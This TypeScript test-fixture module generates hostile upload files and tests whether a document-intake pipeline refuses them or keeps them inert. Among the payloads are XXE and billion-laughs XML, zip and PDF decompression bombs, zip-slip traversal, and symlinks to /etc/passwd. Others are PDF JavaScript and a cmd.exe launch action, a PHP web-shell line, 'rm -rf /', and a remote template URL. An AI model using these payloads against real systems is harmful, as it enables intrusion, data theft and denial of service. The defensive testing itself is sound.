import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { ZipFile } from "yazl";
import { smallPdf } from "./evidence-house.ts";

/** Files that were made to break, run or mislead something: by name, with what must become of each. */

export type Hostile = { readonly name: string; readonly bytes: Buffer; /** `kept` ones are never shown as anything that runs. */ readonly expected: "kept" | "refused"; /** Also read by the reader's process. */ readonly isRead?: boolean };

type Entry = readonly [name: string, bytes: Buffer, mode?: number];

/** A zip; `swap` then replaces bytes in it, for what no honest program writes. */
async function zipOf(entries: readonly Entry[], swap: readonly (readonly [string, string])[] = []): Promise<Buffer> {
  const zip = new ZipFile();
  for (const [name, bytes, mode] of entries) zip.addBuffer(bytes, name, { mtime: new Date(0), ...(mode === undefined ? {} : { mode }) });
  zip.end();
  const pieces: Buffer[] = [];
  for await (const piece of zip.outputStream) pieces.push(Buffer.from(piece));
  return swap.reduce((bytes, [from, to]) => Buffer.from(bytes.toString("latin1").replaceAll(from, to), "latin1"), Buffer.concat(pieces));
}

const text = (content: string): Buffer<ArrayBuffer> => Buffer.from(content);
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const types = (main = WORD, part = "/word/document.xml"): Entry => ["[Content_Types].xml", text(`<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="${part}" ContentType="${main}"/></Types>`)];
const body = (inner: string, head = ""): Entry => ["word/document.xml", text(`<?xml version="1.0"?>${head}<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>${inner}</w:t></w:r></w:p></w:body></w:document>`)];
const docx = (...more: readonly Entry[]): Promise<Buffer> => zipOf([types(), ...(more.some(([name]) => name === "word/document.xml") ? [] : [body("x")]), ...more]);

const XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const LAUGHS = `<!DOCTYPE d [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, i) => `<!ENTITY a${String(i)} "${`&a${i === 0 ? "" : String(i - 1)};`.repeat(10)}">`).join("")}]>`;

const pdf = (objects: string): Buffer => Buffer.from(smallPdf().toString("latin1").replace("/Catalog", `/Catalog ${objects}`), "latin1");
const bombPdf = (): Buffer => {
  const packed = deflateSync(Buffer.alloc(30 * 1024 * 1024, 0x20));
  const [before = "", after = ""] = smallPdf().toString("latin1").split("% x");
  return Buffer.concat([text(before.replace("/MediaBox", "/Contents 9 0 R/MediaBox")), text(`9 0 obj<</Length ${String(packed.length)}/Filter/FlateDecode>>stream\n`), packed, text("\nendstream endobj\n"), text(after)]);
};

const png = (width: number, height: number, more: Buffer = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(33);
  Buffer.from("89504e470d0a1a0a0000000d49484452", "hex").copy(head);
  head.writeUInt32BE(width, 16);
  head.writeUInt32BE(height, 20);
  Buffer.from("0802000000", "hex").copy(head, 24);
  return Buffer.concat([head, Buffer.from("000000004944415400000000", "hex"), more, Buffer.from("0000000049454e44ae426082", "hex")]);
};
const jpeg = (width: number, height: number, comment = ""): Buffer => {
  const note = Buffer.from(comment);
  const frame = Buffer.from("ffc0000b080000000001011100", "hex");
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from("ffd8", "hex"), Buffer.from([0xFF, 0xFE, 0, note.length + 2]), note, frame, Buffer.from("ffd9", "hex")]);
};

/** How an entry begins in a zip's table of contents. */
const CENTRAL = Buffer.from("504b0102", "hex");
/** A symbolic link, as Unix says it. */
const SYMLINK = 41_471;

const HTML = "<!doctype html><script>alert(1)</script>";
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const EICAR = [String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}$`, "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");
const mp4 = (brand: string): Buffer => Buffer.concat([Buffer.from("0000001866747970", "hex"), text(brand), Buffer.from("00000200", "hex"), text(`${brand}mp41`), text(HTML)]);

const refused = (name: string, bytes: Buffer | string): Hostile => ({ name, bytes: typeof bytes === "string" ? text(bytes) : bytes, expected: "refused" });
const kept = (name: string, bytes: Buffer, isRead = false): Hostile => ({ name, bytes, expected: "kept", isRead });

const hex = (value: string): Buffer => Buffer.concat([Buffer.from(value, "hex"), Buffer.alloc(600, 1)]);

/** What is no document at all, whatever its name says. */
const STRANGERS: readonly Hostile[] = [
  refused("trang.html", HTML), refused("trang.pdf", HTML), refused("ảnh.svg", SVG), refused("ảnh.png", SVG), refused("trang.xhtml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`),
  refused("mã.js", "alert(1)"), refused("mã.php", "<?php system($_GET[0]);"), refused("lệnh.sh", "#!/bin/sh\nrm -rf /"), refused("lệnh.bat", "@echo off\r\ndel *"), refused("chạy.pdf.exe", hex("4d5a90000300000004000000ffff0000")),
  refused("chạy.pdf", hex("7f454c4602010100")), refused("mã.class", hex("cafebabe00000034")), refused("mã.wasm", hex("0061736d01000000")), refused("cũ.doc", hex("d0cf11e0a1b11ae1")), refused("cũ.rtf", String.raw`{\rtf1\ansi{\object\objdata 0105}}`),
  refused("ảnh.gif", hex("474946383961")), refused("ảnh.webp", Buffer.concat([text("RIFF"), Buffer.alloc(4), text("WEBPVP8 "), Buffer.alloc(20)])), refused("ảnh.tiff", hex("49492a0008000000")), refused("ảnh.bmp", hex("424d")), refused("gói.gz", hex("1f8b0800")),
  refused("gói.7z", hex("377abcaf271c")), refused("gói.rar", hex("526172211a0700")), refused("gói.tar", Buffer.concat([Buffer.alloc(257), text("ustar\u000000"), Buffer.alloc(300)])), refused("bảng.sqlite", `SQLite format 3\u0000${"x".repeat(200)}`), refused("in.ps", "%!PS-Adobe-3.0\n"),
  refused("số.json", '{"__proto__":1}'), refused("ngẫu nhiên.bin", Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 7919 + 13) % 251))), refused("rỗng.pdf", Buffer.alloc(5000)), refused("trống.txt", " ".repeat(10)), refused("virus.pdf", EICAR),
];

const PICTURES: readonly Hostile[] = [
  refused("lụt.png", png(60_000, 60_000)), refused("lụt.jpg", jpeg(65_535, 65_535)), refused("cụt.png", png(10, 10).subarray(0, 20)), refused("không khung.jpg", hex("ffd8ffe000104a46494600")),
  kept("hai mặt.png", png(10, 10, text(HTML))), kept("lời.jpg", jpeg(10, 10, HTML)), kept("phim.mp4", mp4("isom")), kept("ảnh.heic", mp4("heic")),
];

const pdfs = (): readonly Hostile[] => [
  kept("mã.pdf", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('http://x'))>>"), true),
  kept("chạy.pdf", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>")),
  kept("gửi.pdf", pdf("/AcroForm<</XFA(<x/>)>>")),
  kept("hai mặt.pdf", Buffer.concat([smallPdf(), text(HTML)])),
  kept("cụt.pdf", smallPdf().subarray(0, 60), true),
  kept("vòng.pdf", Buffer.from(smallPdf().toString("latin1").replace("/Kids[3 0 R]", "/Kids[2 0 R]"), "latin1"), true),
  kept("đếm.pdf", Buffer.from(smallPdf().toString("latin1").replace("/Count 1", "/Count 99999999"), "latin1"), true),
  kept("bom.pdf", bombPdf(), true),
  kept("khóa.pdf", Buffer.from(smallPdf().toString("latin1").replace("<</Root", "<</Encrypt<</Filter/Standard/V 1/R 2/O(00000000000000000000000000000000)/U(00000000000000000000000000000000)/P -1>>/ID[(a)(a)]/Root"), "latin1"), true),
  kept("đuôi kép.pdf.exe", smallPdf("đuôi kép")), kept("sai đuôi.docx", smallPdf("sai đuôi")), kept(`${"d".repeat(251)}.pdf`, smallPdf("dài")),
  refused("lệch.pdf", Buffer.concat([text(HTML), smallPdf()])),
];

async function containers(): Promise<readonly Hostile[]> {
  const inner = await zipOf([["0.txt", Buffer.alloc(1000)]]);
  const nested = await zipOf([["lib 0.zip", inner], ["lib 1.zip", inner]]);
  const bomb = await zipOf([["0.pdf", Buffer.concat([smallPdf(), Buffer.alloc(52 * 1024 * 1024)])]]);
  const many = await zipOf(Array.from({ length: 10_001 }, (_, i): Entry => [`${String(i)}.pdf`, text("%PDF")]));
  const honest = await zipOf([["a.pdf", smallPdf()]]);
  const lying = Buffer.from(honest);
  // The size that an entry says it has, where the table of contents says it.
  lying.writeUInt32LE(5, honest.indexOf(CENTRAL) + 24);
  const locked = Buffer.from(honest);
  for (const [sign, at] of [["504b0304", 6], ["504b0102", 8]] as const) locked.writeUInt16LE(1, honest.indexOf(Buffer.from(sign, "hex")) + at);
  // Nothing looks further into an office file than its table of contents: there each look has to hold by itself.
  const lockedWord = await docx();
  lockedWord.writeUInt16LE(lockedWord.readUInt16LE(lockedWord.lastIndexOf(CENTRAL) + 8) | 1, lockedWord.lastIndexOf(CENTRAL) + 8);
  const huge = await docx(["word/media/a.bin", randomBytes(6 * 1024 * 1024)]);
  huge.writeUInt32LE(1_100_000_000, huge.indexOf(CENTRAL) + 24);
  return [
    refused("liên kết.docx", await docx(["word/link.xml", text("/etc/passwd"), SYMLINK])), refused("khóa.docx", lockedWord), refused("khổng lồ.docx", huge),
    refused("42.zip", await zipOf(Array.from({ length: 16 }, (_, i): Entry => [`lib ${String(i)}.zip`, nested]))), refused("lồng.zip", nested), refused("bom.zip", bomb), refused("nhiều.zip", many), refused("nói dối.zip", lying), refused("khóa.zip", locked),
    refused("liên kết.zip", await zipOf([["a.pdf", text("/etc/passwd"), SYMLINK]])), refused("chạy.zip", await zipOf([["a.exe", hex("4d5a9000")]])), refused("trang.zip", await zipOf([["a.html", text(HTML)]])), refused("ảnh.zip", await zipOf([["a.svg", text(SVG)]])), refused("virus.zip", await zipOf([["a.txt", text(EICAR)]])),
    refused("leo.zip", await zipOf([["xx/xx/a.pdf", smallPdf()]], [["xx/xx/a.pdf", "../../a.pdf"]])), refused("gốc.zip", await zipOf([["xetc/a.pdf", smallPdf()]], [["xetc/a.pdf", "/etc/a.pdf"]])), refused("ngược.zip", await zipOf([["x/x/a.pdf", smallPdf()]], [["x/x/a.pdf", String.raw`.\x\a.pdf`]])),
    refused("cụt.zip", honest.subarray(0, -30)), refused("rỗng.zip", Buffer.concat([text("PK\u0005\u0006"), Buffer.alloc(18)])),
    refused("macro.docm", await zipOf([types("application/vnd.ms-word.document.macroEnabled.main+xml"), body("x")])), refused("macro.docx", await docx(["word/vbaProject.bin", hex("d0cf11e0")])), refused("macro.odt", await zipOf([["mimetype", text("application/vnd.oasis.opendocument.text")], ["content.xml", text("<x/>")], ["Basic/Standard/a.xml", text("<x/>")]])),
    refused("leo.docx", await zipOf([types(), body("x"), ["xx/xx/evil.xml", text("x")]], [["xx/xx/evil.xml", "../../evil.xml"]])), refused("bom.docx", await docx(["word/media/a.bin", Buffer.alloc(52 * 1024 * 1024)])),
    kept("xxe.docx", await docx(body("&x;", XXE)), true), kept("cười.docx", await docx(body("&a19;", LAUGHS)), true), kept("sâu.docx", await docx(["word/document.xml", text("<w:p>".repeat(200_000))]), true), kept("mẫu ngoài.docx", await docx(["word/_rels/settings.xml.rels", text('<Relationships><Relationship Target="http://evil/x.dotm" TargetMode="External"/></Relationships>')])),
  ];
}

/** At least sixty of them, some made anew each time. */
export const hostileFiles = async (): Promise<readonly Hostile[]> => [...STRANGERS, ...PICTURES, ...pdfs(), ...(await containers())];

export const HOSTILE_NAMES: readonly string[] = ["", "a\u0000.pdf", "\u202Efdp.exe", "../../a.pdf", "a/b.pdf", String.raw`a\b.pdf`, "C:a.pdf", "<script>.pdf", 'a".pdf', "a\nb.pdf", "a\tb.pdf", "a\u200Bb.pdf", `${"d".repeat(252)}.pdf`, "a|b.pdf", "a?.pdf"];
